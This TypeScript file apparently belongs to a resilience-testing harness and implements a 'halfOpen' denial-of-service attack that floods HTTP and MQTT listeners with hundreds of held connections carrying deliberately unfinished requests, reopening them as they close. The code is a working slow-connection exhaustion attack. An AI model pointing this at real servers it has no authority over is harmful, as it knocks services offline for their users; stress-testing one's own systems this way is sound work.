import type { Socket } from 'node:net';
import type { Attack } from './target.js';
import { dial } from './wire.js';

/** More connections than any listener accepts, held at once. */
const HELD = 600;
const BURST = 50;
const PAUSE_MS = 50;

/** Beginnings of requests that are never finished. */
const BEGINNINGS = {
  http: [
    '',
    'GET / HT',
    'POST /time HTTP/1.1\r\nhost: x\r\n',
    'POST /time HTTP/1.1\r\nhost: x\r\ncontent-length: 16\r\n\r\n',
    'GET /api/v1/state HTTP/1.1\r\nhost: x\r\n\r\n',
  ],
  // No bytes, the head of a CONNECT, the head of a TLS handshake.
  mqtt: ['', '\x10\x20', '\x16\x03\x01\x02\x00'],
} as const;

/** Opens connections to every listener that never finish their request, and reopens them when they are closed. */
export const halfOpen: Attack = async ({ urls, clock, deadline }) => {
  const held: Socket[] = [];
  let opened = 0;
  let refused = 0;
  const places = [
    [urls.service, BEGINNINGS.http],
    [urls.page, BEGINNINGS.http],
    [urls.mqtt, BEGINNINGS.mqtt],
  ] as const;
  for (let round = 0; clock.now() < deadline; round++) {
    const [url, beginnings] = places[round % places.length] ?? places[0];
    for (let i = 0; i < BURST; i++) {
      const socket = await dial(url);
      if (!socket) {
        refused++;
        continue;
      }
      opened++;
      socket.pause();
      socket.write(beginnings[opened % beginnings.length] ?? '', 'latin1');
      held.push(socket);
    }
    while (held.length > HELD * places.length) held.shift()?.destroy();
    await clock.sleep(PAUSE_MS);
  }
  for (const socket of held) socket.destroy();
  return { opened, refused };
};
